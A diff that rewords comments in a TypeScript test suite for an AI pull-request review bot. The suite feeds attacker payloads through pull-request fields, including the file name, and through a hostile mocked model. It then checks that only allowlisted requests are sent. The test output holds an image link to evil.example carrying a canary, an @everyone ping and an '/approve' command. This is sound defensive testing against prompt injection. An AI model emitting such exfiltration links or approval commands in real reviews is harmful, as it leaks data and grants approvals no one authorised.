@@ -13,11 +13,11 @@ import {
   startAgentWorld,
 } from '../testing/agent-world.ts'
 
-/** `L7_FULL=yes`: every payload in every place; else every payload once, in one of the places. */
+/** If L7_FULL is set, tests every payload in every place; otherwise every payload once, in one of the places. */
 const IS_FULL = process.env.L7_FULL !== undefined
 const CANARY = 'KANARIE-4711'
 const MOST_CHARACTERS = 20_000
-/** What is sent beside reading: a token, reactions, the query for threads, and the review. */
+/** Requests allowed besides reads: a token, reactions, the GraphQL query for threads, and the review. */
 const MAY_BE_SENT =
   /^POST (\/app\/installations\/\{installation_id\}\/access_tokens|\/graphql|.*\/reactions|.*\/pulls\/\{pull_number\}\/reviews(\/\{review_id\}\/events)?)$/
 
@@ -38,7 +38,7 @@ const PLACES: Record<string, (payload: string) => Attack> = {
   'file name': (payload) => ({ files: { [`src/${payload.replaceAll('\n', ' ')}.js`]: FAULTY } }),
 }
 
-/** Code is shown as it is and means nothing: spans, and blocks of suggested code. */
+/** Removes code spans and suggestion blocks: they are shown literally, so their content is harmless. */
 const withoutCode = (text: string) =>
   text
     .replace(/<!-- debrief:(?:run:[\w-]+|finding) -->/, '')
@@ -65,7 +65,7 @@ describe('L7: a hostile model, from the mention to what is posted', () => {
     await openai?.close()
   })
 
-  /** Opens what the attacker wrote, has the model say all they asked for, and gives what came of a mention. */
+  /** Opens the attacker's pull request, lets the model return `said`, and returns the result of a mention. */
   async function attack({ files, title, body, comment }: Attack, said: string) {
     openai.clear()
     const reply = { kind: 'hostile', text: said, grounded: true } as const
@@ -99,7 +99,7 @@ describe('L7: a hostile model, from the mention to what is posted', () => {
       const sent = new Set<string>()
       let comments = 0
       for (const [index, payload] of payloads.entries()) {
-        // The model says it in every field, and its answer has a limit.
+        // The model returns it in every field, and the size of its answer is limited.
         const said = payload.slice(0, 900)
         const all = `${said} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
         const { pull, run, routes, reactions } = await attack(
